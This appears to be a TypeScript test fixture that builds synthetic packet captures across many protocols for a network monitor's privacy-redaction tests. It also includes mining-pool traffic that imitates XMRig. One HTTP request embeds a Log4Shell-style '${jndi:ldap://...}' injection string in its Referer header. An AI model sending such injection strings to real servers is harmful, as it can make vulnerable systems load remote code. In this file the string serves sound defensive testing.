import type { CapturedPacket } from '../../sentinel/sources/source.ts';
import { clientHello } from '../../test/sentinel/client-hello.ts';
import { a, captured, cname, dns, le32, plays, T0, Talk, u16, u32, udp } from '../../test/sentinel/packets.ts';
import { refused, stratum } from '../../test/sentinel/transcripts.ts';

/** Gives what stands in a field that must never leave the node; the field's name tells one from another. */
export type Plant = (field: string) => string;

const bytes = (...parts: readonly (string | number | Uint8Array)[]) => Buffer.concat(parts.map((part) => (typeof part === 'number' ? Buffer.from([part]) : typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(part)))); // prettier-ignore
const sized = (text: string) => bytes(text.length, text);

const redisCommand = (...words: readonly string[]) => `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`; // prettier-ignore
const bsonText = (name: string, value: string) => bytes(2, `${name}\0`, le32(value.length + 1), `${value}\0`);
const mongoMessage = (...fields: readonly Buffer[]) => {
  const document = bytes(le32(5 + fields.reduce((sum, field) => sum + field.length, 0)), ...fields, 0);
  const body = bytes(le32(0), 0, document);
  return bytes(le32(16 + body.length), le32(7), le32(0), le32(2013), body);
};

/** A conversation of every protocol that the sentinel reads, with `plant` in every field that is somebody's own. */
export function samples(plant: Plant): ReadonlyMap<string, readonly CapturedPacket[]> {
  let count = 0;
  const talk = (port: number) => new Talk(`10.0.3.${(count += 1)}:${40_000 + count}`, `203.0.113.9:${port}`, { clientIsn: count * 7919, serverIsn: count * 104_729, at: T0 + count * 1000 }).open(); // prettier-ignore
  return new Map<string, readonly CapturedPacket[]>([
    ['http', http(talk(80), plant).packets],
    ['websocket', websocket(talk(80), plant).packets],
    ['http2', http2(talk(8080), plant).packets],
    ['tls', talk(443).says(clientHello({ name: 'api.example.com', alpn: ['h2', plant('alpn')] })).hears(bytes(22, 3, 3, u16(60), 2, 0, u16(56), plant('tls-server-random'))).packets],
    ['dns', datagrams(plant)],
    ['redis', redis(talk(6379), plant).packets],
    ['postgresql', postgresql(talk(5432), plant).packets],
    ['mysql', mysql(talk(3306), plant).packets],
    ['mongodb', mongodb(talk(27_017), plant).packets],
    ['kafka', talk(9092).says(kafka(plant)).hears(bytes(u32(30), u32(1), plant('kafka-answer'))).packets],
    ['amqp', amqp(talk(5672), plant).packets],
    ['nats', talk(4222).hears(`INFO {"server_id":"${plant('nats-server-id')}","nonce":"${plant('nats-nonce')}"}\r\n`).says(nats(plant)).packets],
    ['socks', plays(socks(talk(1080), plant), stratum).packets],
    ['proxy', talk(8443).says(bytes(Buffer.from('0d0a0d0a000d0a515549540a2111', 'hex'), u16(12 + 3 + plant('proxy-tlv').length), Buffer.alloc(12), 0xea, u16(plant('proxy-tlv').length), plant('proxy-tlv'))).says(`GET /x HTTP/1.1\r\nX: ${plant('behind-proxy')}\r\n\r\n`).packets],
    ['stratum', stratumOf(talk(3333), plant).packets],
    ['cryptonote', cryptonoteOf(talk(14_444), plant).packets],
    ['getwork', getwork(talk(8332), plant).packets],
    ['probe', plays(talk(4444), refused).hears(plant('probe-answer')).packets],
    ['ssh', talk(22).hears(`SSH-2.0-${plant('ssh-banner')}\r\n`).says(`SSH-2.0-${plant('ssh-client')}\r\n`).packets],
    ['smtp', talk(25).hears(`220 ${plant('smtp-banner')}\r\n`).says(`AUTH PLAIN ${plant('smtp-auth')}\r\nMAIL FROM:<${plant('smtp-from')}>\r\n`).packets],
    ['ldap', talk(389).says(bytes(0x30, 60, 2, 1, 1, 0x60, 55, 2, 1, 3, 4, 10, plant('ldap-dn'), 0x80, 20, plant('ldap-password'))).packets],
    ['bitcoin', talk(8333).says(bytes(Buffer.from('f9beb4d976657273696f6e0000000000', 'hex'), le32(86), Buffer.alloc(4), Buffer.alloc(80, 1), plant('bitcoin-agent'))).packets],
    ['unknown', talk(7000).says(plant('unknown-out')).hears(plant('unknown-in')).packets],
  ]); // prettier-ignore
}

function http(talk: Talk, plant: Plant): Talk {
  const body = JSON.stringify({ password: plant('http-json-body'), login: plant('http-json-login') });
  talk.says(`POST /api/orders?token=${plant('http-query')}#${plant('http-fragment')} HTTP/1.1\r\nHost: ${plant('http-host-user')}@shop.example.com\r\nAuthorization: Bearer ${plant('http-bearer')}\r\nCookie: s=${plant('http-cookie')}\r\nUser-Agent: ${plant('http-agent')}\r\nReferer: https://x/${plant('http-referer')}\r\nX-Api-Key: ${plant('http-api-key')}\r\n${plant('http-header-name')}: x\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
  talk.hears(`HTTP/1.1 302 ${plant('http-reason')}\r\nLocation: https://x/${plant('http-location')}\r\nSet-Cookie: s=${plant('http-set-cookie')}\r\nContent-Length: 24\r\n\r\n${plant('http-answer')}`);
  talk.says(`GET /reset/${plant('http-path')}/confirm;jsessionid=${plant('http-path-parameter')} HTTP/1.1\r\nHost: shop.example.com\r\nReferer: \${jndi:ldap://${plant('jndi-host')}/a}\r\n\r\n`);
  talk.says(`${plant('http-method').toUpperCase()} / HTTP/1.1\r\n\r\n`);
  talk.says(`PUT http://${plant('http-user')}:${plant('http-password')}@web.example.com/a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n18;${plant('http-chunk-extension')}=1\r\n${plant('http-chunk')}\r\n0\r\nX: ${plant('http-trailer')}\r\n\r\n`);
  return talk.says(`CONNECT ${plant('connect-user')}@inner.example.com:443 HTTP/1.1\r\nProxy-Authorization: Basic ${plant('connect-authorization')}\r\n\r\n`).hears('HTTP/1.1 200 ok\r\n\r\n').says(plant('connect-inside'));
} // prettier-ignore

function websocket(talk: Talk, plant: Plant): Talk {
  talk.says(`GET /ws?key=${plant('websocket-query')} HTTP/1.1\r\nHost: ws.example.com\r\nUpgrade: websocket\r\nSec-WebSocket-Key: ${plant('websocket-key')}\r\nSec-WebSocket-Protocol: ${plant('websocket-protocol')}\r\n\r\n`); // prettier-ignore
  talk.hears('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n');
  const payload = Buffer.from(`{"method":"login","params":{"token":"${plant('websocket-payload')}"}}`);
  return talk.says(bytes(0x81, 0x80 | payload.length, 0, 0, 0, 0, payload)).hears(bytes(0x81, 24, plant('websocket-answer').slice(0, 24))); // prettier-ignore
}

function http2(talk: Talk, plant: Plant): Talk {
  const literal = (name: string, value: string) => bytes(0x40, sized(name), sized(value));
  const frame = (type: number, stream: number, payload: Buffer) => bytes(0, u16(payload.length), type, 4, u32(stream), payload); // prettier-ignore
  talk.says('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n').says(Buffer.from('000000040000000000', 'hex'));
  const call = bytes(0x83, literal(':path', '/shop.Cart/AddItem'), literal('content-type', `application/grpc+${plant('grpc-content-type')}`), literal('authorization', plant('grpc-authorization')), literal(plant('grpc-header-name').toLowerCase(), plant('grpc-header'))); // prettier-ignore
  const get = bytes(0x82, literal(':path', `/users/${plant('h2-path')}?q=${plant('h2-query')}`), literal(':authority', `${plant('h2-user')}@web.example.com`), literal('cookie', plant('h2-cookie')), literal('content-type', 'application/json')); // prettier-ignore
  talk.says(frame(1, 1, call)).says(frame(0, 1, bytes(0, u32(24), plant('grpc-message'))));
  talk
    .says(frame(1, 3, get))
    .says(frame(0, 3, Buffer.from(`{"method":"login","params":{"pass":"${plant('h2-body')}"}}`)));
  return talk.says(frame(7, 0, bytes(u32(3), u32(0), plant('h2-goaway')))).hears(frame(1, 1, bytes(0x88, literal('set-cookie', plant('h2-set-cookie'))))); // prettier-ignore
}

function datagrams(plant: Plant): CapturedPacket[] {
  const [client, resolver] = ['10.0.3.200:5353', '10.0.0.2:53'].map((end) => end.replace(':5353', ':53530'));
  const text = { name: 'txt.example.com', type: 16, data: sized(plant('dns-txt')) };
  return [
    udp(client!, resolver!, dns({ name: 'txt.example.com', type: 16 })),
    udp(resolver!, client!, dns({ name: 'txt.example.com', type: 16, answers: [text] })),
    udp(client!, resolver!, dns({ id: 8, name: 'www.example.com' })),
    udp(resolver!, client!, dns({ id: 8, name: 'www.example.com', answers: [cname('www.example.com', 'cdn.example.net'), a('cdn.example.net', '198.51.100.7')] })), // prettier-ignore
    udp('10.0.3.200:40001', '198.51.100.7:443', bytes(0xc3, u32(1), sized('abcdefgh'), 0, sized(plant('quic-token')), Buffer.alloc(1200, 5))), // prettier-ignore
    udp('10.0.3.200:40002', '10.0.9.9:514', Buffer.from(`<34>login ${plant('syslog')}`)),
    udp('10.0.3.200:40003', '10.0.9.9:161', bytes(0x30, 40, 2, 1, 1, 4, 24, plant('snmp-community'))),
  ].map((packet, index) => captured(packet, T0 + index));
}

function redis(talk: Talk, plant: Plant): Talk {
  talk.says(redisCommand('AUTH', plant('redis-user'), plant('redis-password'))).hears('+OK\r\n');
  talk.says(
    redisCommand('SET', plant('redis-key'), plant('redis-value')) + redisCommand(plant('redis-unknown-command')),
  );
  return talk.hears(`-ERR unknown command '${plant('redis-error')}'\r\n`).says(`GET ${plant('redis-inline-key')}\r\n`);
}

function postgresql(talk: Talk, plant: Plant): Talk {
  const message = (type: string, text: string) => bytes(type, u32(text.length + 4), text);
  const startup = bytes(u32(3 << 16), `user\0${plant('pg-user')}\0database\0${plant('pg-database')}\0application_name\0${plant('pg-application')}\0\0`); // prettier-ignore
  talk.says(bytes(u32(startup.length + 4), startup)).says(message('p', `${plant('pg-password')}\0`));
  talk.says(message('Q', `/* ${plant('pg-comment')} */ SELECT '${plant('pg-literal')}' FROM ${plant('pg-table')}\0`));
  talk.says(message('P', `${plant('pg-statement')}\0INSERT INTO t VALUES ('${plant('pg-prepared')}')\0\0\0`)).says(message('Q', `${plant('pg-verb')}\0`)); // prettier-ignore
  return talk.says(message('B', `\0${plant('pg-bind')}`)).hears(message('E', `M${plant('pg-error')}\0\0`));
}

function mysql(talk: Talk, plant: Plant): Talk {
  const packet = (sequence: number, body: Buffer) => bytes(body.length & 255, body.length >> 8, 0, sequence, body);
  talk.hears(packet(0, bytes(`\n8.0.${plant('mysql-version')}\0`, Buffer.alloc(40, 1))));
  talk.says(packet(1, bytes(le32(0xa208), Buffer.alloc(28), `${plant('mysql-user')}\0`, sized(plant('mysql-password')), `${plant('mysql-database')}\0`))); // prettier-ignore
  talk.says(packet(0, bytes(3, `UPDATE ${plant('mysql-table')} SET p='${plant('mysql-literal')}'`))).says(packet(0, bytes(3, plant('mysql-verb')))); // prettier-ignore
  return talk
    .says(packet(0, bytes(2, plant('mysql-init-db'))))
    .hears(packet(1, bytes(0xff, u16(1), plant('mysql-error'))));
}

function mongodb(talk: Talk, plant: Plant): Talk {
  talk.says(mongoMessage(bsonText('find', plant('mongo-collection')), bsonText('filter', plant('mongo-value')), bsonText('$db', plant('mongo-database')))); // prettier-ignore
  return talk
    .says(mongoMessage(bsonText(plant('mongo-command'), 'x')))
    .says(mongoMessage(bsonText('saslStart', plant('mongo-sasl'))));
}

function kafka(plant: Plant): Buffer {
  const request = (api: number, rest: string) => {
    const body = bytes(u16(api), u16(3), u32(1), u16(plant('kafka-client').length), plant('kafka-client'), rest);
    return bytes(u32(body.length), body);
  };
  return bytes(request(18, plant('kafka-software')), request(3, plant('kafka-topic')), request(0, plant('kafka-record')), request(36, plant('kafka-sasl'))); // prettier-ignore
}

function amqp(talk: Talk, plant: Plant): Talk {
  const frame = (type: number, body: Buffer) => bytes(type, u16(1), u32(body.length), body, 0xce);
  const method = (kind: number, number: number, rest: string) => frame(1, bytes(u16(kind), u16(number), rest));
  talk
    .says(Buffer.from('AMQP\0\0\u0009\u0001', 'latin1'))
    .says(method(10, 11, `\0\0\0\0PLAIN\0${plant('amqp-password')}`));
  talk.says(method(50, 10, plant('amqp-queue'))).says(method(60, 40, plant('amqp-routing-key'))).says(method(99, 99, plant('amqp-unknown'))); // prettier-ignore
  return talk.says(frame(2, bytes(plant('amqp-header')))).says(frame(3, bytes(plant('amqp-body'))));
}

const nats = (plant: Plant) => `CONNECT {"user":"${plant('nats-user')}","pass":"${plant('nats-password')}","auth_token":"${plant('nats-token')}"}\r\nPUB ${plant('nats-subject')} 24\r\n${plant('nats-payload').slice(0, 24)}\r\nSUB ${plant('nats-subscription')} 1\r\n${plant('nats-unknown')} x\r\n`; // prettier-ignore

function socks(talk: Talk, plant: Plant): Talk {
  talk.says(Buffer.from([5, 2, 0, 2])).hears(Buffer.from([5, 2]));
  talk.says(bytes(1, sized(plant('socks-user')), sized(plant('socks-password')))).hears(Buffer.from([1, 0]));
  return talk.says(bytes(5, 1, 0, 3, sized('pool.example.org'), u16(3333))).hears(Buffer.from([5, 0, 0, 1, 0, 0, 0, 0, 0, 0])); // prettier-ignore
}

function stratumOf(talk: Talk, plant: Plant): Talk {
  const hash = 'c7'.repeat(32);
  talk.says(`{"id":1,"method":"mining.subscribe","params":["${plant('stratum-agent')}","${plant('stratum-session')}","pool.example.org","3333"],"${plant('stratum-key')}":"${plant('stratum-extra')}"}\n`); // prettier-ignore
  talk.hears(`{"id":1,"result":[[["mining.notify","${plant('stratum-subscription')}"]],"08000002",4],"error":null}\n`);
  talk.says(`{"id":2,"method":"mining.authorize","params":["${plant('stratum-wallet')}.${plant('stratum-worker')}","${plant('stratum-password')}"]}\n`); // prettier-ignore
  talk.hears(`{"id":2,"result":true,"error":null}\n{"id":null,"method":"mining.notify","params":["${plant('stratum-job')}","${hash}","01","02",[],"20000000","1b00ffff","5f5e1000",true]}\n`); // prettier-ignore
  talk.says(
    `{"id":4,"method":"mining.submit","params":["${plant('stratum-submit')}","bf","00000001","504e86ed","b2957c02"]}\n`,
  );
  talk.says(`{"id":5,"method":"mining.${plant('stratum-method')}","params":[]}\n`);
  return talk.hears(`{"id":4,"result":null,"error":[23,"${plant('stratum-error')}",null]}\n`);
}

function cryptonoteOf(talk: Talk, plant: Plant): Talk {
  const blob = `0606e89883d205${'5a'.repeat(69)}`;
  talk.says(`{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${plant('xmr-wallet')}","pass":"${plant('xmr-pass')}","agent":"XMRig/6.21.0 ${plant('xmr-agent')}","rigid":"${plant('xmr-rig')}"}}\n`); // prettier-ignore
  talk.hears(`{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"${plant('xmr-id')}","job":{"blob":"${blob}","job_id":"${plant('xmr-job')}","target":"dc460300"},"status":"OK"}}\n`); // prettier-ignore
  talk.says(`{"id":2,"method":"submit","params":{"id":"${plant('xmr-submit-id')}","job_id":"7","nonce":"d0030040","result":"${'c7'.repeat(32)}"}}\n`); // prettier-ignore
  return talk.hears(`{"id":2,"jsonrpc":"2.0","error":{"code":-1,"message":"${plant('xmr-error')}"}}\n`);
}

function getwork(talk: Talk, plant: Plant): Talk {
  const body = '{"method":"getwork","params":[],"id":0}';
  talk.says(`POST / HTTP/1.1\r\nHost: pool.example.org\r\nAuthorization: Basic ${plant('getwork-authorization')}\r\nX-Mining-Extensions: ${plant('getwork-extension')}\r\nContent-Length: ${body.length}\r\n\r\n${body}`); // prettier-ignore
  const work = `{"error":null,"id":0,"result":{"data":"${'ab'.repeat(128)}","target":"${'ff'.repeat(32)}","x":"${plant('getwork-result')}"}}`; // prettier-ignore
  return talk.hears(`HTTP/1.1 200 OK\r\nX-Stratum: stratum+tcp://${plant('getwork-stratum')}\r\nContent-Length: ${work.length}\r\n\r\n${work}`); // prettier-ignore
}
